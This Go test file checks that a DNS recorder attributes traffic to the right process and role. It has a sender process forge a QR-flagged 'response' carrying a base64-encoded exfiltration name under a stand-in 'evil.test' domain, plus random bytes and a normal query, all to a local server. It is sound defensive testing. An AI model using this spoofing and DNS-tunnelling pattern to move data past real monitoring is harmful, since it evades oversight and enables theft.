//go:build linux && (amd64 || arm64)

package record_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/dnsrec/dnsrec/query"
	"github.com/dnsrec/dnsrec/record"
)

// Re-executions of the test binary for TestRolesFromTransport: a DNS server
// and a sender, each a process of its own.
const (
	envServe = "DNSREC_TEST_SERVE" // comma-separated names to answer
	envSpoof = "DNSREC_TEST_SPOOF" // "EXFIL,NORMAL"
)

// serveMain is the DNS server process: it answers A for the names in
// envServe on 127.0.0.1:53 over UDP, prints "ready" once its socket is
// bound, and exits when its stdin is closed.
func serveMain() int {
	pc, err := net.ListenPacket("udp", "127.0.0.1:53")
	if err != nil {
		fmt.Fprintf(os.Stderr, "server: %v\n", err)
		return 1
	}
	srv := &dns.Server{PacketConn: pc, Handler: newTestServer(strings.Split(os.Getenv(envServe), ",")...).h}
	go srv.ActivateAndServe()
	fmt.Println("ready")
	io.Copy(io.Discard, os.Stdin)
	return 0
}

// spoofMain is the sender process. To 127.0.0.1:53 it sends a "response"
// (flags 0x8100: QR and RD) asking EXFIL TXT, then 40 random bytes with the
// QR bit set, then a query for NORMAL A whose answer it waits for. It
// prints its pid and the garbage's source port.
func spoofMain() int {
	exfil, normal, _ := strings.Cut(os.Getenv(envSpoof), ",")
	send := func(b []byte) (int, error) {
		c, err := net.Dial("udp", "127.0.0.1:53")
		if err != nil {
			return 0, err
		}
		defer c.Close()
		_, err = c.Write(b)
		return c.LocalAddr().(*net.UDPAddr).Port, err
	}
	spoof := new(dns.Msg)
	spoof.SetQuestion(exfil+".", dns.TypeTXT)
	spoof.Response = true
	raw, err := spoof.Pack()
	if err == nil {
		_, err = send(raw)
	}
	garbage := make([]byte, 40)
	for i := range garbage {
		garbage[i] = byte(rand.Uint32())
	}
	garbage[2] |= 0x80
	garbagePort := 0
	if err == nil {
		garbagePort, err = send(garbage)
	}
	if err == nil {
		q := new(dns.Msg)
		q.SetQuestion(normal+".", dns.TypeA)
		_, _, err = (&dns.Client{Timeout: 5 * time.Second}).Exchange(q, "127.0.0.1:53")
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "sender: %v\n", err)
		return 1
	}
	fmt.Printf("pid=%d garbage=%d\n", os.Getpid(), garbagePort)
	return 0
}

// startServeProcess runs serveMain in a child process until the test ends
// and returns its pid once it listens.
func startServeProcess(t *testing.T, exe string, names ...string) int {
	t.Helper()
	cmd := exec.Command(exe)
	cmd.Env = append(os.Environ(), envServe+"="+strings.Join(names, ","))
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		stdin.Close()
		if err := cmd.Wait(); err != nil {
			t.Errorf("server process: %v", err)
		}
	})
	if line, err := bufio.NewReader(stdout).ReadString('\n'); line != "ready\n" {
		t.Fatalf("server process said %q (%v)", line, err)
	}
	return cmd.Process.Pid
}

// TestRolesFromTransport: a process must not hide by setting the QR bit.
// A sender process under uid 65534 sends a "response" carrying an
// exfiltration name to a DNS server in another process, then random bytes,
// then a normal query. Each must be stored as sent by the sender in the
// client role and received by the server in the server role; the spoofed
// one is flagged, and who-resolved names the sender for the exfiltration
// domain.
func TestRolesFromTransport(t *testing.T) {
	requireRoot(t)
	const exfil, normal = "c2data-aGVsbG8.exfil.evil.test", "www.spoof.test"
	const nobody = 65534
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// A copy of the test binary that uid 65534 may execute: the build
	// directory is root's alone.
	dir, err := os.MkdirTemp("", "dnsrec-spoof-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	exeCopy := filepath.Join(dir, "sender")
	b, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(exeCopy, b, 0o755); err != nil {
		t.Fatal(err)
	}
	server := startServeProcess(t, exe, normal)
	path := filepath.Join(dir, "spoof.db")
	stop := startRecorder(t, path, record.Options{})

	cmd := exec.Command(exeCopy)
	cmd.Env = append(os.Environ(), envSpoof+"="+exfil+","+normal)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	sender, out := run(t, cmd)
	var selfPid, garbagePort int
	if _, err := fmt.Sscanf(out, "pid=%d garbage=%d", &selfPid, &garbagePort); err != nil || selfPid != sender {
		t.Fatalf("sender printed %q (%v), its pid is %d", out, err, sender)
	}
	stop()

	db := openRO(t, path)
	type obs struct {
		dir, role string
		pid, uid  int64
		mismatch  bool
	}
	read := func(where string, args ...any) []obs {
		t.Helper()
		rows, err := db.Query(`SELECT direction, role, coalesce(pid, -1), coalesce(uid, -1), qr_mismatch FROM messages WHERE `+where+` ORDER BY id, direction DESC`, args...)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		var out []obs
		for rows.Next() {
			var o obs
			if err := rows.Scan(&o.dir, &o.role, &o.pid, &o.uid, &o.mismatch); err != nil {
				t.Fatal(err)
			}
			out = append(out, o)
		}
		return out
	}
	c, s := int64(sender), int64(server)
	asked := obs{"send", "client", c, nobody, false}
	served := obs{"recv", "server", s, 0, false}
	answered := obs{"send", "server", s, 0, false}
	received := obs{"recv", "client", c, nobody, false}
	flagged := func(o obs) obs { o.mismatch = true; return o }
	if got := read(`qname = lower(?)`, exfil); !slices.Equal(got, []obs{flagged(asked), flagged(served)}) {
		t.Errorf("spoofed response: %+v, want %+v", got, []obs{flagged(asked), flagged(served)})
	}
	garbage := read(`parse_error IS NOT NULL AND sport = ?`, garbagePort)
	for i := range garbage {
		garbage[i].mismatch = false // random bytes: the bit may or may not be read
	}
	if !slices.Equal(garbage, []obs{asked, served}) {
		t.Errorf("garbage to port 53: %+v, want %+v", garbage, []obs{asked, served})
	}
	if got := read(`qname = ?`, normal); !slices.Equal(got, []obs{asked, served, answered, received}) {
		t.Errorf("plain query and answer: %+v, want %+v", got, []obs{asked, served, answered, received})
	}

	// The sender lives in the root pid namespace: its pid there is its pid.
	var nspid int64
	if err := db.QueryRow(`SELECT nspid FROM owners WHERE pid = ? LIMIT 1`, sender).Scan(&nspid); err != nil || nspid != c {
		t.Errorf("owners.nspid = %d (%v), want %d", nspid, err, sender)
	}

	qdb, err := query.Open(context.Background(), []string{path})
	if err != nil {
		t.Fatal(err)
	}
	defer qdb.Close()
	rows, err := qdb.WhoResolved(context.Background(), "exfil.evil.test", query.WhoResolvedOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 || rows[0].PID.V != c || rows[0].Count != 1 {
		t.Errorf("who-resolved exfil.evil.test: %+v, want the sender alone (pid %d, 1 message)", rows, sender)
	}
}
